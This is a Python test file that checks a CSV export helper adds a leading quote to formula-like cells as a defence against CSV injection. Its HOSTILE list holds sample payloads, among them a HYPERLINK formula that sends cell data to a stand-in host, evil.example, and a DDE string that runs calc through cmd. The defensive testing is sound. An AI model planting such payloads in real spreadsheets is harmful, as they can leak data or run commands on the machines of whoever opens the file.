"""Issue 20, item 17: CSV exports neutralise formula cells (OWASP CSV injection); numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import duckdb
import pytest

from finmatch_agents.formatting import csv_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tindented",
           "\rcarriage", "=1+1", "-", "-cmd|' /C calc'!A0"]
NUMBERS_AS_TEXT = ["-3.5", "+7", "-1e-3", "12", ".5"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_gets_a_leading_quote(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-3.5, -7, 0, Decimal("-1.25"), True, *NUMBERS_AS_TEXT, "plain", "a=b", ""])
def test_numbers_and_plain_text_are_unchanged(value) -> None:
    assert csv_cell(value) == (float(value) if isinstance(value, Decimal) else value)


def test_sql_csv_export_is_safe_to_open_in_a_spreadsheet(cli, db_copy: Path) -> None:
    with duckdb.connect(str(db_copy)) as con:
        for i, text in enumerate(HOSTILE + NUMBERS_AS_TEXT):
            con.execute("UPDATE products SET product_name = ? WHERE product_id = (SELECT product_id FROM products "
                        "ORDER BY product_id LIMIT 1 OFFSET ?)", [text, i])
    result = cli("sql", 'SELECT product_name, -3.5 AS neg, 1 AS "=cmd" FROM products ORDER BY product_id', "--db",
                 db_copy, "--format", "csv")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[0] == ["product_name", "neg", "'=cmd"]
    names = [r[0] for r in rows[1:]]
    for text in HOSTILE:
        assert "'" + text in names
    for text in NUMBERS_AS_TEXT:
        assert text in names
    assert {r[1] for r in rows[1:]} == {"-3.5"}
    assert not [n for n in names if n[:1] in ("=", "+", "@", "\t", "\r") and n not in NUMBERS_AS_TEXT]
